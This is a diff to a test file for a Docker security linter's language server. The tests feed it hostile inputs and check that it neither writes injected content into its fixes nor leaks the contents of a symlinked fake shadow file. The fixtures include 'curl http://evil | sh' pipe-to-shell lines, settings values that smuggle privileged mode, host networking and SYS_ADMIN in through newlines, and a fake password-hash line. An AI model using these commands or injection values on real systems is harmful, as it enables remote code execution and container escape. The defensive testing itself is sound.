@@ -5,19 +5,27 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { pathToFileURL } from 'node:url';
-import type { CodeAction, Diagnostic } from 'vscode-languageserver-protocol/node';
-import { Client, serverJs } from '../lsp/client';
+import type { CodeAction } from 'vscode-languageserver-protocol/node';
+import { Client, messageText, serverJs } from '../lsp/client';
 import { makeTree } from './harness';
 
 const PRIV = 'services:\n  a:\n    image: x:1\n    privileged: true\n';
-const CAPS = { workspace: { configuration: true, didChangeWatchedFiles: { dynamicRegistration: true } }, textDocument: { publishDiagnostics: { relatedInformation: true } } };
+const CAPS = {
+  workspace: { configuration: true, didChangeWatchedFiles: { dynamicRegistration: true } },
+  textDocument: { publishDiagnostics: { relatedInformation: true } },
+};
 
 async function start(dir: string | undefined, settings: Record<string, unknown> = {}): Promise<Client> {
   const c = new Client();
   c.settings = settings;
   const folders = dir ? [{ uri: pathToFileURL(dir).toString(), name: 'w' }] : [];
-  await c.conn.sendRequest('initialize', { processId: process.pid, rootUri: folders[0]?.uri ?? null, workspaceFolders: folders, capabilities: CAPS });
-  c.conn.sendNotification('initialized', {});
+  await c.conn.sendRequest('initialize', {
+    processId: process.pid,
+    rootUri: folders[0]?.uri ?? null,
+    workspaceFolders: folders,
+    capabilities: CAPS,
+  });
+  void c.conn.sendNotification('initialized', {});
   return c;
 }
 
@@ -27,7 +35,10 @@ async function worstLatency(c: Client, ms: number): Promise<number> {
   const until = Date.now() + ms;
   while (Date.now() < until) {
     const t0 = Date.now();
-    await c.conn.sendRequest('workspace/executeCommand', { command: 'docker-security-lint.no-such-command', arguments: [] });
+    await c.conn.sendRequest('workspace/executeCommand', {
+      command: 'docker-security-lint.no-such-command',
+      arguments: [],
+    });
     worst = Math.max(worst, Date.now() - t0);
     await new Promise((r) => setTimeout(r, 50));
   }
@@ -49,7 +60,8 @@ function bigWorkspace(n: number): string {
   const dir = makeTree({});
   for (let d = 0; d < n / 10; d++) {
     fs.mkdirSync(path.join(dir, `d${d}`));
-    for (let i = 0; i < 10; i++) fs.writeFileSync(path.join(dir, `d${d}`, `${i}.Dockerfile`), 'FROM alpine:3.20\nRUN curl http://x | sh\n');
+    for (let i = 0; i < 10; i++)
+      fs.writeFileSync(path.join(dir, `d${d}`, `${i}.Dockerfile`), 'FROM alpine:3.20\nRUN curl http://x | sh\n');
   }
   return dir;
 }
@@ -57,14 +69,22 @@ function bigWorkspace(n: number): string {
 describe('hostile repositories: the language server', function () {
   this.timeout(180_000);
   const clients: Client[] = [];
-  after(async () => { for (const c of clients) await c.close(); });
-  before(function () { if (!fs.existsSync(serverJs)) this.skip(); });
+  after(async () => {
+    for (const c of clients) await c.close();
+  });
+  before(function () {
+    if (!fs.existsSync(serverJs)) this.skip();
+  });
 
   it('a request before initialize gets the protocol error, not an empty answer', async () => {
     const c = new Client();
     clients.push(c);
     await assert.rejects(
-      c.conn.sendRequest('textDocument/codeAction', { textDocument: { uri: 'file:///x/compose.yaml' }, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, context: { diagnostics: [] } }),
+      c.conn.sendRequest('textDocument/codeAction', {
+        textDocument: { uri: 'file:///x/compose.yaml' },
+        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
+        context: { diagnostics: [] },
+      }),
       (e: { code?: number }) => e.code === -32002,
     );
   });
@@ -72,38 +92,74 @@ describe('hostile repositories: the language server', function () {
   it('untitled documents are linted (kind from the language)', async () => {
     const c = await start(undefined);
     clients.push(c);
-    c.conn.sendNotification('textDocument/didOpen', { textDocument: { uri: 'untitled:Untitled-1', languageId: 'dockercompose', version: 1, text: PRIV } });
-    const d = await c.waitFor('untitled:Untitled-1', (x) => x.some((y) => y.code === 'compose/privileged'), 'privileged on an untitled document');
+    void c.conn.sendNotification('textDocument/didOpen', {
+      textDocument: { uri: 'untitled:Untitled-1', languageId: 'dockercompose', version: 1, text: PRIV },
+    });
+    const d = await c.waitFor(
+      'untitled:Untitled-1',
+      (x) => x.some((y) => y.code === 'compose/privileged'),
+      'privileged on an untitled document',
+    );
     assert.ok(d.length > 0);
   });
 
   it('fix values from workspace settings are validated: an injected value is never written', async () => {
-    const dir = makeTree({ 'Dockerfile': 'FROM alpine:3.20\n', 'compose.yaml': 'services:\n  a:\n    image: x:1\n' });
-    const c = await start(dir, { fixes: { user: '10001:10001\nRUN curl http://evil | sh', memory: '1G\n    privileged: true', cpus: '1\nnetwork_mode: host', pids: '5\ncap_add: [SYS_ADMIN]' } });
+    const dir = makeTree({ Dockerfile: 'FROM alpine:3.20\n', 'compose.yaml': 'services:\n  a:\n    image: x:1\n' });
+    const c = await start(dir, {
+      fixes: {
+        user: '10001:10001\nRUN curl http://evil | sh',
+        memory: '1G\n    privileged: true',
+        cpus: '1\nnetwork_mode: host',
+        pids: '5\ncap_add: [SYS_ADMIN]',
+      },
+    });
     clients.push(c);
-    for (const [file, text, lang] of [['Dockerfile', 'FROM alpine:3.20\n', 'dockerfile'], ['compose.yaml', 'services:\n  a:\n    image: x:1\n', 'dockercompose']]) {
+    for (const [file, text, lang] of [
+      ['Dockerfile', 'FROM alpine:3.20\n', 'dockerfile'],
+      ['compose.yaml', 'services:\n  a:\n    image: x:1\n', 'dockercompose'],
+    ]) {
       const uri = pathToFileURL(path.join(dir, file)).toString();
-      c.conn.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: lang, version: 1, text } });
+      void c.conn.sendNotification('textDocument/didOpen', {
+        textDocument: { uri, languageId: lang, version: 1, text },
+      });
       const diags = await c.waitFor(uri, (d, p) => d.length > 0 && p.version === 1, `findings on ${file}`);
-      const actions = await c.conn.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 9, character: 0 } }, context: { diagnostics: diags } }) as CodeAction[];
-      const written = actions.flatMap((a) => Object.values(a.edit?.changes ?? {}).flat().map((e) => e.newText)).join('\n');
+      const actions = (await c.conn.sendRequest('textDocument/codeAction', {
+        textDocument: { uri },
+        range: { start: { line: 0, character: 0 }, end: { line: 9, character: 0 } },
+        context: { diagnostics: diags },
+      })) as CodeAction[];
+      const written = actions
+        .flatMap((a) =>
+          Object.values(a.edit?.changes ?? {})
+            .flat()
+            .map((e) => e.newText),
+        )
+        .join('\n');
       assert.ok(written.length > 0, `some fix is offered on ${file}`);
-      for (const bad of ['evil', 'privileged', 'network_mode', 'SYS_ADMIN']) assert.ok(!written.includes(bad), `${file}: '${bad}' written`);
+      for (const bad of ['evil', 'privileged', 'network_mode', 'SYS_ADMIN'])
+        assert.ok(!written.includes(bad), `${file}: '${bad}' written`);
       if (file === 'Dockerfile') assert.match(written, /USER 10001:10001/);
     }
   });
 
   it('a config linked outside the workspace folder gets a diagnostic that quotes nothing of it', async () => {
-    const outside = makeTree({ 'shadow': 'root:$6$saltsalt$hash:20228:0:99999:7:::\n' });
-    const dir = makeTree({ 'compose.yaml': PRIV, '.docker-security-lint.yaml': { link: path.join(outside, 'shadow') } });
+    const outside = makeTree({ shadow: 'root:$6$saltsalt$hash:20228:0:99999:7:::\n' });
+    const dir = makeTree({
+      'compose.yaml': PRIV,
+      '.docker-security-lint.yaml': { link: path.join(outside, 'shadow') },
+    });
     const c = await start(dir);
     clients.push(c);
     const cfg = pathToFileURL(path.join(dir, '.docker-security-lint.yaml')).toString();
     const d = await c.waitFor(cfg, (x) => x.length > 0, 'a config problem');
-    const all = d.map((x: Diagnostic) => x.message).join('\n');
+    const all = d.map(messageText).join('\n');
     assert.match(all, /outside/);
     for (const piece of ['root', 'saltsalt', '20228']) assert.ok(!all.includes(piece), `'${piece}' published`);
-    await c.waitFor(pathToFileURL(path.join(dir, 'compose.yaml')).toString(), (x) => x.some((y) => y.code === 'compose/privileged'), 'defaults in force');
+    await c.waitFor(
+      pathToFileURL(path.join(dir, 'compose.yaml')).toString(),
+      (x) => x.some((y) => y.code === 'compose/privileged'),
+      'defaults in force',
+    );
   });
 
   it('keeps answering while a settings change re-scans 6,000 files, and takes 1,000 created files in one pass', async () => {
@@ -113,10 +169,15 @@ describe('hostile repositories: the language server', function () {
     const last = pathToFileURL(path.join(dir, 'd599', '9.Dockerfile')).toString();
     await c.waitFor(last, (d) => d.length > 0, 'the scan to finish', 120_000);
     c.settings = { rules: { 'dockerfile/curl-pipe-shell': 'off' } };
-    c.conn.sendNotification('workspace/didChangeConfiguration', { settings: null });
+    void c.conn.sendNotification('workspace/didChangeConfiguration', { settings: null });
     const worst = await worstLatency(c, 1500);
     assert.ok(worst < 500, `blocked ${worst} ms after a settings change`);
-    await c.waitFor(last, (d) => !d.some((x) => x.code === 'dockerfile/curl-pipe-shell'), 'the re-lint after the settings change', 120_000);
+    await c.waitFor(
+      last,
+      (d) => !d.some((x) => x.code === 'dockerfile/curl-pipe-shell'),
+      'the re-lint after the settings change',
+      120_000,
+    );
     // a checkout that creates 1,000 files at once
     c.settings = {};
     fs.mkdirSync(path.join(dir, 'new'));
@@ -127,13 +188,16 @@ describe('hostile repositories: the language server', function () {
       changes.push({ uri: pathToFileURL(p).toString(), type: 1 });
     }
     const t0 = Date.now();
-    c.conn.sendNotification('workspace/didChangeWatchedFiles', { changes });
+    void c.conn.sendNotification('workspace/didChangeWatchedFiles', { changes });
     const worst2 = await worstLatency(c, 500);
     await c.waitFor(changes[999].uri, (d) => d.length > 0, 'the last created file', 60_000);
     const ms = Date.now() - t0;
     // about 1 ms a file here (the old server looked at every workspace file for each event: 12 s on 6,000 files)
     assert.ok(ms < 6000, `1,000 created files took ${ms} ms`);
-    if (process.env.DSL_TEST_VERBOSE) console.log(`      settings change: worst ${worst} ms; 1,000 created files: ${ms} ms, worst ${worst2} ms; peak ${peakRssMb(c)} MB`);
+    if (process.env.DSL_TEST_VERBOSE)
+      console.log(
+        `      settings change: worst ${worst} ms; 1,000 created files: ${ms} ms, worst ${worst2} ms; peak ${peakRssMb(c)} MB`,
+      );
     assert.ok(worst2 < 500, `blocked ${worst2} ms by a burst of file events`);
     const peakMb = peakRssMb(c);
     assert.ok(peakMb < 400, `server peak memory ${peakMb} MB`);
